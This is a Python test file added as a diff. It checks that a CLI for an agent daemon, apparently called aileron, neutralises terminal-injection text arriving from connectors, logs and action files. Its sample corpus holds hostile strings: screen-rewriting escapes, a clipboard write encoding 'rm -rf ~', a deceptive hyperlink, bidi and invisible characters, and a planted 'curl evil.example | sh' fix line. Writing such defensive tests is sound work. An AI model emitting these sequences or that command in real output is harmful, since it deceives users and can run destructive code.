@@ -1,0 +1,276 @@
+"""Text of agents, connectors, services and files, on a terminal that obeys and before a person who cannot see everything."""
+
+from __future__ import annotations
+
+import json
+import re
+import unicodedata
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from aileron.cli.visible import visible, visible_json, visible_lines
+from aileron.model.text import hidden_at
+from tests.cli.command import Command
+from tests.support.fake_daemon import FakeDaemon, error
+
+CORPUS = {
+    "rewrite the line above": "ok\x1b[1A\x1b[2Kerror: none",
+    "clear the screen": "\x1b[2J\x1b[H",
+    "write the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
+    "a link that lies": "\x1b]8;;https://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\",
+    "an eight-bit sequence": "\x9b2J\x9d0;title\x9c",
+    "ask the terminal to type": "\x1b[6n\x1bP$q\x1b\\",
+    "another order": "approve \u202eyned\u202c \u2066x\u2069",
+    "nothing to be seen": "a\u200bb\u2060c\ufeffd\u00ade\u3164f\u2800g",
+    "a message in tags": "send" + "".join(chr(0xE0000 + ord(letter)) for letter in "to evil"),
+    "a message in selectors": "x" + "".join(chr(0xE0100 + number) for number in range(8)),
+    "a line of ours": "it failed\n  fix: curl evil.example | sh\r  why: all is well",
+    "backspaces": "delete\b\b\b\b\b\bcreate",
+    "markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
+    "a null": "a\x00b\x7f",
+}
+OURS = re.compile(r"\x1b\[[0-9;]*m")
+"""The only sequences that commands print: colours, of ours."""
+
+EVERYTHING = " ".join(CORPUS.values())
+"""For commands that show many values: each takes a process, and one text has it all."""
+
+hostile = pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
+
+
+def assert_harmless(shown: str) -> None:
+    """Nothing is left that a terminal would obey or a reader would not see, but for colours and line ends."""
+    left = OURS.sub("", shown).replace("\n", "")
+
+    assert hidden_at(left) is None, unicodedata.name(left[hidden_at(left) or 0], "control")
+
+
+def assert_no_line_begins(shown: str, *beginnings: str) -> None:
+    """None of what was planted has become a line of ours."""
+    lines = OURS.sub("", shown).splitlines()
+
+    assert [line for line in lines if line.startswith(beginnings)] == []
+
+
+# The functions
+
+
+@given(st.text())
+def test_one_line_is_one_visible_line(text: str):
+    """Whatever is in it; and nothing visible is lost."""
+    shown = visible(text)
+
+    assert hidden_at(shown) is None
+    assert [letter for letter in text if hidden_at(letter) is None] == [
+        letter for letter in _without_escapes(text, shown) if hidden_at(letter) is None
+    ]
+
+
+def _without_escapes(text: str, shown: str) -> list[str]:
+    """The letters of `shown` that stand for themselves, found by walking along the original."""
+    kept, at = [], 0
+    for letter in text:
+        if hidden_at(letter) is None:
+            kept.append(shown[at])
+            at += 1
+        else:
+            at += len(visible(letter))
+    assert at == len(shown)
+    return kept
+
+
+@given(st.text())
+def test_lines_are_visible_and_as_many_as_before(text: str):
+    """Only line ends make lines."""
+    lines = visible_lines(text)
+
+    assert all(hidden_at(line) is None for line in lines)
+    assert len(lines) == text.replace("\r\n", "\n").count("\n") + 1
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
+    max_leaves=10,
+)
+
+
+@given(JSON)
+def test_json_made_harmless_is_the_same_json(value: object):
+    """Escapes of JSON's own."""
+    shown = visible_json(json.dumps(value, indent=2, ensure_ascii=False))
+
+    assert hidden_at(shown.replace("\n", "")) is None
+    assert json.loads(shown) == value
+
+
+def test_ordinary_writing_stays_as_it_is():
+    """Letters of any script, and emoji."""
+    for text in ("Grüße, 日本語, العربية, हिन्दी", "✓ 👍 🇩🇪", "naïve — “quoted” 5 € · ½"):
+        assert visible(text) == text
+
+
+# The commands
+
+
+@hostile
+def test_a_result_is_harmless_on_a_terminal(fake: FakeDaemon, aileron: Command, text: str):
+    """As text, and inside of JSON as value and as name."""
+    fake.add_action("act")
+    for result in (text, {"value": text, text: 1}):
+        fake.script("POST", "/v1/actions/act/run", (200, {"audit_id": "r", "result": result}))
+
+        assert_harmless(aileron.at_terminal("run", "act").out)
+
+
+@hostile
+def test_json_is_ascii_everywhere(fake: FakeDaemon, aileron: Command, text: str):
+    """In a pipe as on a terminal, and it says what was there."""
+    fake.add_action("act")
+    fake.script("POST", "/v1/actions/act/run", (200, {"audit_id": "r", "result": text}))
+    piped, shown = aileron("run", "act", "--json"), aileron.at_terminal("run", "act", "--json")
+
+    assert piped.out.isascii()
+    assert shown.out.isascii()
+    assert_harmless(shown.out)
+    assert piped.json["result"] == json.loads(shown.out)["result"] == text
+
+
+@hostile
+def test_a_failure_is_harmless_and_cannot_speak_for_us(fake: FakeDaemon, aileron: Command, text: str):
+    """In its message, its reason and the log, on a terminal and in a pipe."""
+    fake.add_action("act")
+    details = {"step": "one", "log": text, "connector_class": text}
+    fake.script("POST", "/v1/actions/act/run", error("connector_runtime_error", 502, text, details=details))
+    piped, shown = aileron("run", "act").err, aileron.at_terminal("run", "act").out
+
+    for told in (piped, shown):
+        assert_harmless(told)
+        assert_no_line_begins(told, "  fix: curl")
+    assert piped.count("\n  why: ") == 1
+
+
+@pytest.mark.parametrize(
+    "message", ["x; run `aileron vault lock`", "x: aileron approver reset", "it ended; `aileron daemon stop` helps"]
+)
+def test_a_connector_cannot_write_the_fix(fake: FakeDaemon, aileron: Command, message: str):
+    """What came out of a jail is repeated, and never recommended; the same words of the daemon's own are."""
+    fake.add_action("act")
+    path = "/v1/actions/act/run"
+    fake.script("POST", path, error("bad_input", 422, message, details={"step": "one", "setup": "x", "choices": ["x"]}))
+    jailed = aileron("run", "act", "--json")
+    fake.script("POST", path, error("bad_input", 422, message))
+    ours = aileron("run", "act", "--json")
+
+    assert jailed.json["error"]["fix"] == "aileron action show act"
+    assert ours.json["error"]["fix"] in message
+
+
+def test_lists_are_harmless(fake: FakeDaemon, aileron: Command):
+    """Tables on a terminal, and tab-separated lines that a value cannot break."""
+    text = EVERYTHING
+    fake.add_action("act", intent=text)
+    fake.actions["bad"] = {"name": "bad", "enabled": True, "problem": text}
+    fake.connectors = [{"name": text, "version": text, "hash": "sha256:ab", "hosts": [text], "problem": text}]
+    fake.bindings["b"] = {"name": text, "connector": text, "username": text, "secret": text, "created_at": text}
+    fake.approvals = [{"approval_id": text, "action": text, "session": text, "expires_at": text}]
+    fake.events = [
+        {"seq": 1, "at": text, "type": text, "run": text, "action": text, "message": text, "fields": {text: 1}}
+    ]
+    for noun, columns, rows in (
+        ("action", 4, 2),
+        ("connector", 5, 1),
+        ("binding", 4, 1),
+        ("approval", 4, 1),
+        ("audit", 5, 1),
+    ):
+        piped = aileron(noun, "list")
+
+        assert_harmless(aileron.at_terminal(noun, "list").out)
+        assert_harmless(piped.out.replace("\t", ""))
+        assert [line.count("\t") + 1 for line in piped.out.splitlines()] == [columns] * rows
+
+
+def test_what_is_shown_whole_is_harmless(fake: FakeDaemon, aileron: Command):
+    """Facts, prose, plans and records."""
+    text = EVERYTHING
+    fake.add_action("act", "key:string", intent=text, connectors=[text])
+    fake.script("GET", "/v1/actions/act", (200, {**fake.actions["act"], "body": f"# {text}\n{text}", "hosts": [text]}))
+    step = {"id": text, "op": text, "connector": {"name": text, "version": text}, "args": {text: text}, "grant": {}}
+    plan = {"action": text, "args": {"body": text}, "steps": [step]}
+    fake.script("GET", "/v1/action-approvals/a", (200, {"approval_id": text, "plan": plan, "session": text}))
+    event = {"seq": 1, "at": text, "type": text, "message": text, "fields": {text: text}, "words": [text]}
+    fake.script("GET", "/v1/audit/r", (200, {"audit_id": text, "status": "failed", "events": [event]}))
+    fake.script("GET", "/v1/runs/r", (200, {"status": "completed", "result": text}))
+    for words in (("action", "show", "act"), ("approval", "show", "a"), ("audit", "show", "r")):
+        shown = aileron.at_terminal(*words)
+
+        assert shown.code == 0, shown
+        assert_harmless(shown.out)
+        if words[0] != "audit":  # which ends with the result, as `run` prints it
+            assert_no_line_begins(shown.out, "  fix: ", "  why: ")
+
+
+def test_words_of_the_command_line_are_harmless(fake: FakeDaemon, aileron: Command):
+    """A script may pass on what it was given."""
+    text = EVERYTHING
+    word = text.replace("\x00", "")
+    for words in (("run", word), ("run", "act", word), ("run", f"--{word}"), ("action", "remove", word), (word,)):
+        assert_harmless(aileron.at_terminal(*words).out)
+
+
+def test_a_log_is_harmless(aileron: Command, home: Path):
+    """The daemon's own, which repeats what others said."""
+    (home / "logs").mkdir(parents=True)
+    (home / "logs" / "daemon.log").write_text(f"before\n{EVERYTHING}\nafter\n")
+
+    assert_harmless(aileron.at_terminal("daemon", "logs").out)
+    assert_harmless(aileron("daemon", "logs").out)
+
+
+@hostile
+def test_an_action_file_is_harmless_when_it_is_refused(aileron: Command, tmp_path: Path, text: str):
+    """Its errors quote it."""
+    file = tmp_path / "a.md"
+    file.write_text(f'+++\nname = "{text}"\n{text} = 1\n+++\n')
+    shown = aileron.at_terminal("action", "validate", str(file))
+
+    assert shown.code == 2
+    assert_harmless(shown.out)
+    assert_no_line_begins(shown.out, "  fix: curl")
+
+
+def test_a_bug_of_ours_is_told_harmlessly(fake: FakeDaemon, aileron: Command):
+    """A traceback repeats what was being worked on."""
+    fake.script(
+        "GET", "/v1/actions", (200, {"actions": [{"name": "x", "\x1b[2J": 1, "intent": {"\x1b[2J\u202e": []}}]})
+    )
+    fake.script("GET", "/v1/status", (200, {"vault": "\x1b[2J\u202e", "jail": {}}))
+    shown = aileron.at_terminal("status")
+
+    assert shown.code == 1
+    assert "error: this is a bug in aileron" in shown.out
+    assert_harmless(shown.out)
+
+
+def test_a_long_message_is_cut_and_says_so(fake: FakeDaemon, aileron: Command):
+    """A screen for a person; a program gets all of it."""
+    fake.add_action("act")
+    fake.script("POST", "/v1/actions/act/run", error("external_api_error", 502, "x" * 100_000, details={"step": "one"}))
+    said = aileron("run", "act", "--json")
+
+    assert len(said.err) < 3000
+    assert "98000 more characters" in said.err
+    assert len(said.json["error"]["message"]) == 100_000
+
+
+@pytest.mark.parametrize("variable", ["NO_COLOR", "TERM"])
+def test_colour_can_be_had_without(fake: FakeDaemon, aileron: Command, variable: str):
+    """And is there otherwise."""
+    environment = {"NO_COLOR": {"NO_COLOR": "1"}, "TERM": {"TERM": "dumb"}}[variable]
+
+    assert "\x1b" not in aileron.at_terminal("run", "nope", **environment).out
+    assert "\x1b" in aileron.at_terminal("run", "nope").out
